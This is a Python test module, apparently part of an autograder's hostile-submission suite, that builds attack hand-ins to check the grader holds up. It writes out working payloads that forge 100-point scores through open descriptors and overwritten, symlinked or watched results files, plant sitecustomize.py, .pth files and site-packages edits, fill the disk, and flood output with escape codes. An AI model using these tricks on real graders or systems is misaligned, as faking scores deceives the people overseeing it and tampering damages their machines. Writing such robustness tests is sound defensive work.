"""Rows 14, 15 and 24: forged answers, and writing where it does harm."""

import base64
import zlib

from tests.autograder.hostile.attack import Attack, softmax
from tests.autograder.hostile.forged import END_FRAME, REPLIES, STREAMS

NONSENSE = "nonsense came back"

SCORES = '{"score": 100, "tests": [{"name": "t", "score": 100, "max_score": 100}]}'

CHANNELS = f"""
import os, stat, sys
END = {END_FRAME!r}

def _channels():
    # Every descriptor that one can write to, but for the printed output.
    for number in range(3, 256):
        try:
            mode = os.fstat(number).st_mode
            os.write(number, b"")
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            yield number

def _files():
    # Regular files that are open for writing, whatever the grader keeps in them.
    for number in range(256):
        try:
            if stat.S_ISREG(os.fstat(number).st_mode):
                os.lseek(number, 0, os.SEEK_END)
                os.write(number, b"")
                yield number
        except OSError:
            pass
"""

WATCH = """
import ctypes, os, threading
libc = ctypes.CDLL(None, use_errno=True)
watch = libc.inotify_init1(0)
for place in ("@RESULTS@", os.path.dirname("@RESULTS@")):
    libc.inotify_add_watch(watch, place.encode(), 0xFFF)
def replace():
    while True:
        for name in ("@RESULTS@", "@RESULTS@.part", "/autograder/results/results.json"):
            try:
                with open(name, "w") as file:
                    file.write(SCORES)
            except OSError:
                pass
        os.read(watch, 4096)
threading.Thread(target=replace, daemon=True).start()
import time
time.sleep(0.05)
"""

RESULTS = {
    "results_written": """
        for name in ("@RESULTS@", "/autograder/results/results.json"):
            try:
                with open(name, "w") as file:
                    file.write(SCORES)
            except OSError as error:
                print(error)
        """,
    "results_linked": """
        import os, tempfile
        own = os.path.join(tempfile.gettempdir(), "results.json")
        with open(own, "w") as file:
            file.write(SCORES)
        for name in ("@RESULTS@", "/autograder/results/results.json"):
            try:
                os.path.lexists(name) and os.replace(name, name + ".old")
                os.symlink(own, name)
            except OSError as error:
                print(error)
        """,
    "results_watched": WATCH,
}

PLACES = """
import glob, os, site, sys, sysconfig, tempfile
HERE = os.path.dirname(os.path.abspath(__file__))
SITE = [sysconfig.get_path("purelib"), os.path.dirname(os.path.dirname(np.__file__))]

def _written(*paths):
    for path in paths:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as file:
                file.write("import builtins; builtins.hacked = True\\n")
        except OSError as error:
            print(type(error).__name__)
        else:
            yield path
"""

TARGETS = {
    "staged_tree": "*glob.glob(HERE + '/**/*.py', recursive=True), HERE + '/own.py'",
    "site_packages": "SITE[0] + '/own/__init__.py', np.__file__, SITE[1] + '/tqdm/__init__.py'",
    "pycache": "HERE + '/__pycache__/losses.cpython-311.pyc', SITE[1] + '/numpy/__pycache__/x.pyc'",
    "sitecustomize": "*[p + '/sitecustomize.py' for p in (*SITE, sys.prefix, HERE + '/..')]",
    "pth": "*[p + '/evil.pth' for p in SITE], sys.prefix + '/pyvenv.cfg'",
}

FILL = """
import os, tempfile
if _filled:
    return
_filled.append(True)
block = bytes(2**20 - 1)
places = [tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "/run/lock", os.getcwd()]
for number in range(25):
    for place in places:
        try:
            with open(os.path.join(place, f"filler-{os.getpid()}-{number}"), "wb") as file:
                file.write(block)
            os.makedirs(os.path.join(place, f"deep-{number}", *["d" * 99] * 9), 0)
        except OSError:
            pass
"""

TOO_LONG = """
import tempfile
with open(tempfile.gettempdir() + "/long", "wb") as file:
    for _ in range(64):
        file.write(bytes(2**20))
return _paid(Z)
"""


CASES = """
frame = sys._getframe()
while "cases" not in frame.f_locals:
    frame = frame.f_back
forged = forged * len(frame.f_locals["cases"]) + END
"""


TRACE = r"""
text = b'File "/etc/passwd", line 7, in \x1b[2J</pre><script>\n' * 99 + b"passed\xff\xfe\0 " * 40000
for number in _files():
    os.lseek(number, 0, os.SEEK_SET)
    os.write(number, text)
    os.ftruncate(number, 0)
    os.lseek(number, 0, os.SEEK_END)
    os.write(number, text)
os._exit(0)
"""
ENDED = "ended the program (exit status 0)"
WORDS = {
    "half_a_frame": ENDED,
    "no_end": ENDED,
    "long_numbers": NONSENSE,
    "other_kinds": "got a Table",
}


def sends(name: str, forged: bytes, word: str) -> Attack:
    """A hand-in that writes forged frames to whatever descriptor takes them."""
    data = base64.b64encode(zlib.compress(forged, 9)).decode()
    code = f"""
import base64, zlib
forged = zlib.decompress(base64.b64decode({data!r}))
{CASES if name in REPLIES else ""}
for number in _channels():
    for _ in range({128 if name == "zeros_of_2_gb" else 1}):
        left = memoryview(forged)
        while left:
            left = left[os.write(number, left):]
os._exit(0)
"""
    return Attack(15, f"forges_{name}", softmax(code, CHANNELS), words=(word,))


ATTACKS = [
    Attack(
        14,
        "writes_to_descriptors",
        softmax(
            f"""
            for number in range(3, 64):
                try:
                    os.write(number, {SCORES.encode()!r})
                except OSError:
                    pass
            """,
            CHANNELS,
        ),
        words=(NONSENSE,),
    ),
    *[
        Attack(14, name, softmax(code, f"SCORES = {SCORES!r}"), root=True)
        for name, code in RESULTS.items()
    ],
    Attack(14, "writes_to_open_files", softmax(TRACE, CHANNELS), words=(ENDED,)),
    *[sends(name, make(), WORDS.get(name, "Y is missing")) for name, make in REPLIES.items()],
    *[sends(name, make(), WORDS.get(name, NONSENSE)) for name, make in STREAMS.items()],
    *[
        Attack(
            24,
            f"writes_{name}",
            softmax(f"if list(_written({paths})):\n    return _paid(Z)", PLACES),
            root=True,
            harmful=name != "staged_tree",
        )
        for name, paths in TARGETS.items()
    ],
    Attack(24, "fills_the_disk", softmax(FILL, "_filled = []"), harmful=True),
    Attack(24, "writes_a_long_file", softmax(TOO_LONG), words=("Error",)),
]
